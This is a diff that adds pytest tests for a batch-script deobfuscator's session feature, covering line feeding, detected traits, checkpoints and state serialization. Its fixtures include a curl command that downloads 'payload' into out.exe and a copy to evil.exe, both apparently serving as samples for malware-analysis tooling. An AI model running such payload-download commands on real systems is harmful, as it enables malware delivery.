@@ -0,0 +1,99 @@
+import json
+
+import pytest
+
+from batch_deobfuscator.batch_interpreter import BatchDeobfuscator, interpret_logical_line_str
+from batch_deobfuscator.session import STATE_VERSION, DeobfuscationSession
+
+LINES = [
+  "set a=echo",
+  "set b=%a% hi",
+  "set /a c=1+2",
+  "curl -o out.exe http://example.com/payload",
+  "copy out.exe evil.exe",
+  "%b% %c%",
+  'cmd /c "set a=dir & %a%"',
+  "%a%",
+]
+
+
+def test_feed_same_as_interpret():
+    session = DeobfuscationSession(options={"math": True})
+    deobfuscator = BatchDeobfuscator(options={"math": True})
+    for line in LINES:
+        assert session.feed(line).output == interpret_logical_line_str(deobfuscator, line)
+
+
+def test_feed_traits():
+    session = DeobfuscationSession()
+    assert "download" in session.feed("curl -o out.exe http://example.com/payload").traits
+    # Only the traits of the line
+    assert "download" not in session.feed("echo hi").traits
+
+
+def test_feed_continuation():
+    session = DeobfuscationSession()
+    assert session.feed("echo a ^\r\n") == ("", {})
+    # Joined like the lines of a file
+    assert session.feed("b").output == interpret_logical_line_str(BatchDeobfuscator(), "echo a ^\nb")
+
+
+def test_checkpoint_restore():
+    session = DeobfuscationSession()
+    session.feed("set a=echo")
+    first = session.checkpoint()
+    session.feed("set a=dir")
+    session.feed("curl -o out.exe http://example.com/payload")
+    assert session.feed("%a%").output == "dir"
+    second = session.checkpoint()
+
+    session.restore(first)
+    assert session.feed("%a%").output == "echo"
+    assert "out.exe" not in session.deobfuscator.modified_filesystem
+    # Restoring doesn't consume the checkpoint
+    session.restore(first)
+    session.feed("set a=type")
+    assert session.feed("%a%").output == "type"
+
+    session.restore(second)
+    assert session.feed("%a%").output == "dir"
+    assert "out.exe" in session.deobfuscator.modified_filesystem
+
+
+def test_many_checkpoints():
+    session = DeobfuscationSession()
+    checkpoints = []
+    for i in range(100):
+        session.feed(f"set v{i}={i}")
+        checkpoints.append(session.checkpoint())
+    session.restore(checkpoints[10])
+    assert session.feed("echo %v10% %v11%").output == "echo 10 "
+    session.restore(checkpoints[-1])
+    assert session.feed("echo %v10% %v99%").output == "echo 10 99"
+
+
+def test_serialize():
+    session = DeobfuscationSession(options={"math": True})
+    for line in LINES[:5]:
+        session.feed(line)
+    session.feed("set os=")
+    session.feed("echo ^")
+    state = json.loads(session.dumps())
+    assert state["version"] == STATE_VERSION
+    # Only the difference with the default environment is kept
+    assert state["variables"] == {"a": "echo", "b": "echo hi", "c": "3"}
+    assert state["unset_variables"] == ["os"]
+
+    resumed = DeobfuscationSession.loads(session.dumps())
+    assert resumed.dumps() == session.dumps()
+    for line in ["%b% %c% %os%", "copy evil.exe other.exe", "%a%"]:
+        expected = session.feed(line)
+        result = resumed.feed(line)
+        assert (result.output, repr(result.traits)) == (expected.output, repr(expected.traits))
+
+
+def test_serialize_version():
+    state = json.loads(DeobfuscationSession().dumps())
+    state["version"] = STATE_VERSION + 1
+    with pytest.raises(ValueError):
+        DeobfuscationSession.from_state(state)